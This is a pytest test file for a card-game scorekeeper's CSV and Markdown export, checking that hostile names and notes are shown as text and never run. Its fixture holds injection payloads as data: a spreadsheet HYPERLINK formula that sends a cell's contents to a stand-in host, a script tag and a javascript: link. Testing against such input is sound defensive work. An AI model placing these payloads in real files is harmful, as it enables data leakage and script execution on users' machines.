"""Exports a spreadsheet or a Markdown viewer would run (issue 27): what a name or a note holds is shown,
never run, and stays in its cell; `--output` writes only a regular file outside the data folder, atomically,
escaped as the same export to stdout is.

LibreOffice (headless `soffice`) opens the CSV where it is installed (`.ci/run` installs it); that test
skips, saying why, where it is not."""

from __future__ import annotations

import csv
import io
import os
import shutil
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest

# A name may hold anything but `= , :` (C-4): what a spreadsheet or a Markdown viewer would read as code.
HOSTILE = ["+Ana", "@Bea", "-Cid"]
NOTE = '=HYPERLINK("http://evil.example/?"&A1)\r+SUM(1)\n| forged | row |\n<script>alert(1)</script> [x](javascript:alert(1)) <b>'
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.fixture
def hostile(run):
    """A partie of l'hombre between hostile names, with a negative net (a figure) and a hostile note."""
    assert run("new", "hombre", *(a for name in HOSTILE for a in ("-p", name)), "--game", "hostile").code == 0
    assert run("coup", "--hombre", "@Bea", "--contract", "demande", "--tricks", "+Ana=4,@Bea=3,-Cid=2").code == 0
    assert run("coup", "--hombre", "-Cid", "--contract", "demande", "--tricks", "+Ana=1,@Bea=3,-Cid=5").code == 0
    assert run("note", "1", NOTE).code == 0
    assert run("note", "2", "=2+3").code == 0
    return run


def text_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell and not _number(cell)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_text_cells_never_begin_as_a_formula_and_figures_stay_figures(hostile, tmp_path: Path) -> None:
    for page in (hostile("export", "-f", "csv").out, written(hostile, tmp_path / "f.csv")):
        rows = list(csv.reader(io.StringIO(page, newline="")))
        assert len(rows) == 3  # the header and two coups: the note's line breaks start no row
        cells = text_cells(rows)
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert "'+Ana" in rows[0][-4] or any(cell.startswith("'+Ana") for cell in rows[0])  # a header too
        figures = [cell for row in rows[1:] for cell in row if _number(cell)]
        assert any(cell.startswith("-") for cell in figures)  # a negative net is written as a number
        assert rows[1][-1].startswith("'=HYPERLINK")


def test_csv_quotes_a_cell_holding_any_line_break():
    from scorekeeper.cli.paper import Table
    from scorekeeper.cli.paper.formats import csv as write

    for cut in ("\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028"):
        page = write(Table(["note"], [[f"a{cut}b"], ["c"]]))
        assert page == f'note\n"a{cut}b"\nc\n'


@pytest.mark.skipif(not SOFFICE, reason="no LibreOffice (soffice) here: .ci/run installs libreoffice-calc-nogui")
def test_libreoffice_opens_the_csv_as_text_and_figures(hostile, tmp_path: Path) -> None:
    """The CSV as a spreadsheet reads it, formulas evaluated (the import's 13th option): a cell LibreOffice
    had run would be a value (`2`, an error) in the CSV it writes back; every text cell is as written."""
    source = tmp_path / "fiche.csv"
    written(hostile, source)
    out = tmp_path / "out"
    subprocess.run(
        [str(SOFFICE), "--headless", "--norestore", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}"]
        + ["--infilter=CSV:44,34,76,1,,0,false,true,true,false,false,-1,true", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(source)],
        check=True,
        capture_output=True,
        timeout=180,
    )
    read_back = list(csv.reader(io.StringIO((out / "fiche.csv").read_bytes().decode(), newline="")))
    written_rows = list(csv.reader(io.StringIO(source.read_bytes().decode(), newline="")))
    assert len(read_back) == len(written_rows) == 3
    for ours, theirs in zip(written_rows, read_back, strict=True):
        for cell, shown in zip(ours, theirs, strict=True):
            if _number(cell):
                assert float(shown) == float(cell)  # a figure is a number the spreadsheet can add
            else:  # text as written, or without the `'` that marks it as text: never a formula's value
                shown = shown.replace("\r\n", "\n").replace("\r", "\n")  # LibreOffice writes its breaks as LF
                assert shown in (cell.replace("\r", "\n"), cell[1:].replace("\r", "\n")), cell


def markdown_html(page: str) -> str:
    """The Markdown as a viewer renders it: CommonMark with GitHub's tables, raw HTML allowed as GitHub's is."""
    from markdown_it import MarkdownIt  # rich's own Markdown parser

    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(page))


def test_markdown_shows_html_and_links_as_text_and_a_note_stays_in_its_cell(hostile, tmp_path: Path) -> None:
    for page in (hostile("export", "-f", "md").out, written(hostile, tmp_path / "f.md")):
        rendered = markdown_html(page)
        assert "<script" not in rendered and "<b>" not in rendered and "href" not in rendered
        assert rendered.count("<tr>") == 3  # the header and two coups: no forged row
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered  # shown, as typed
        assert "| forged | row |" in rendered  # the note whole, its pipes shown, in its one cell
        assert rendered.count("<br>") == 3  # its three line breaks (CR, LF, LF), inside it


def test_markdown_escapes_names_in_the_title_headers_and_lines(run) -> None:
    assert run("new", "manille-muette", "-p", "<i>A", "-p", "*B*", "-p", "[C](x)", "-p", "# D", "--game", "<b>g").code == 0
    assert run("coup", "-r", "7s", "--points", "<i>A=40").code == 0
    rendered = markdown_html(run("export", "-f", "md").out)
    assert "<i>" not in rendered and "<em>" not in rendered and "<b>" not in rendered and "href" not in rendered
    assert "<h1>&lt;b&gt;g" in rendered and rendered.count("<h1>") == 1


def written(run, path: Path) -> str:
    ran = run("export", "--output", str(path))
    assert ran.code == 0, ran.err
    return path.read_bytes().decode()  # as written: no line break translated
